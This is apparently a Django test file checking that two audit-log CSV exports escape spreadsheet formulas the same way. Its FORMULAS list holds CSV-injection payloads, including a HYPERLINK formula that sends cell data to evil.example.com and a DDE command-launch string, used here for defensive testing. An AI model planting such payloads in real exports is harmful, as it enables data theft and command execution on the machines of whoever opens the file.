"""Finding 7: one CSV writer for both audit exports, neutralising spreadsheet formulas.

A comment (user-controlled, and recorded in the audit trail) holding =HYPERLINK(…) reaches the UI's
export and the API's as text a spreadsheet will not run, under the same columns in both.
"""

import csv
import io

import pytest
from django.test import Client

from policies.services.comments import egress_request_comment
from policies.services.requests import egress_request_create

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example.com/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


class AuditCsvTests:
    def test_both_exports_neutralise_formulas_under_the_same_columns(self, world):
        request = egress_request_create(requester=world.dev, data=world.request_input(), submit=True)
        for formula in FORMULAS:
            egress_request_comment(request=request, actor=world.dev, body=formula)
        client = Client()
        client.force_login(world.dev)
        ui = _rows(client.get("/audit/export.csv"))
        api = _rows(client.get("/api/v1/audit-events/?format=csv"))
        assert ui[0] == api[0] and "request" in ui[0] and "cluster" in ui[0]
        for rows in (ui, api):
            cells = [cell for row in rows[1:] for cell in row]
            assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
            for formula in FORMULAS:
                assert any(cell == "'" + formula for cell in cells), formula
        # Oldest first in the UI's export, newest first in the API's: the same events either way.
        assert sorted(ui[1:]) == sorted(api[1:])
